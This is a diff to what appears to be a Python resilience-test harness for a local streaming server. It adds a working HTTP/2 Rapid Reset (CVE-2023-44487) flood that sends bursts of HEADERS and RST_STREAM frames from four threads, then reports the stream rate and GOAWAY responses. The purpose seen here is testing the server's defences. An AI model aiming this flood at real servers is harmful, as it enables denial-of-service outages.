@@ -256,6 +256,69 @@ def attack_slow_read(seconds, path):
         time.sleep(1)
 
 
+def h2_frame(kind, flags, stream, payload=b""):
+    n = len(payload)
+    return bytes([n >> 16 & 255, n >> 8 & 255, n & 255, kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+def attack_h2_reset(seconds, path):
+    """HTTP/2 rapid reset (CVE-2023-44487) from 4 connections at a time:
+    each sends bursts of HEADERS for `path` + RST_STREAM(CANCEL) until the
+    server ends it; then a new connection. Prints what it did."""
+    # HPACK: GET, http, :authority "x", :path literal.
+    block = bytes([0x82, 0x86, 0x01, 0x01]) + b"x" + bytes([0x04, len(path)]) + path.encode()
+    stats = {"connections": 0, "streams": 0, "goaway_calm": 0, "closed": 0}
+    lock = threading.Lock()
+    end = time.monotonic() + seconds
+
+    def one():
+        while time.monotonic() < end:
+            try:
+                s = connect_from("127.0.0.4", HTTP)
+            except OSError:
+                time.sleep(0.05)
+                continue
+            with lock:
+                stats["connections"] += 1
+            sid = 1
+            try:
+                s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0))
+                s.settimeout(0.2)
+                got = b""
+                while time.monotonic() < end and sid < 2**31 - 400:
+                    burst = b"".join(h2_frame(1, 0x5, i, block) + h2_frame(3, 0, i, (8).to_bytes(4, "big"))
+                                     for i in range(sid, sid + 400, 2))
+                    s.sendall(burst)
+                    sid += 400
+                    with lock:
+                        stats["streams"] += 200
+                    try:
+                        c = s.recv(1 << 16)
+                        if not c:
+                            break
+                        got += c[-4096:]
+                    except socket.timeout:
+                        pass
+            except OSError:
+                pass
+            with lock:
+                stats["closed"] += 1
+                # A GOAWAY (type 7, flags 0, stream 0) whose error code
+                # (after the last stream id) is ENHANCE_YOUR_CALM (0xb).
+                i = got.rfind(b"\x07\x00\x00\x00\x00\x00")
+                if i >= 3 and got[i + 10:i + 14] == b"\x00\x00\x00\x0b":
+                    stats["goaway_calm"] += 1
+            s.close()
+
+    threads = [threading.Thread(target=one) for _ in range(4)]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join()
+    print(f"{stats['streams'] / seconds:.0f} streams/s opened+reset over {stats['connections']} "
+          f"connections; {stats['goaway_calm']} ended by GOAWAY ENHANCE_YOUR_CALM", flush=True)
+
+
 def attack_idle(seconds, n):
     held = []
     for i in range(n):
@@ -337,16 +400,19 @@ def run(binary, seconds):
         wait_segments("ctl", 2)
         me = os.path.abspath(__file__)
         rows = []
-        attacks = os.environ.get("ATTACKS", "rtmp-storm srt-flood slow-read idle").split()
+        attacks = os.environ.get("ATTACKS", "rtmp-storm srt-flood slow-read idle h2-reset").split()
         for kind in attacks:
             base = measure("ctl", seconds, server.pid)
             args = [str(seconds + 4)]
             if kind == "slow-read":
                 seg = segments(http("GET", "/live/ctl/mono.m3u8")[1].decode())[-1][1]
                 args.append(f"/live/ctl/{seg}")
+            if kind == "h2-reset":
+                args.append("/live/ctl/mono.m3u8")
             if kind == "idle":
                 args.append(os.environ.get("IDLE", "1000"))
-            attacker = subprocess.Popen([sys.executable, me, "attack", kind] + args)
+            attacker = subprocess.Popen([sys.executable, me, "attack", kind] + args,
+                                        stdout=subprocess.PIPE, text=True)
             time.sleep(2)
             extra = ""
             if kind == "srt-flood":
@@ -359,7 +425,8 @@ def run(binary, seconds):
                 extra = ("new SRT publisher: " + (f"2 segments after {took:.1f} s" if took == took
                                                   else f"no 2 segments in {seconds} s"))
             under = measure("ctl", seconds, server.pid)
-            attacker.wait()
+            said = attacker.communicate()[0].strip()
+            extra = (extra + " " + said).strip()
             rows.append((kind, base, under, extra))
             # Let the timeouts close what the attacker left.
             time.sleep(11)
@@ -393,6 +460,8 @@ def main():
             attack_slow_read(seconds, sys.argv[4])
         elif kind == "idle":
             attack_idle(seconds, int(sys.argv[4]))
+        elif kind == "h2-reset":
+            attack_h2_reset(seconds, sys.argv[4])
 
 
 if __name__ == "__main__":
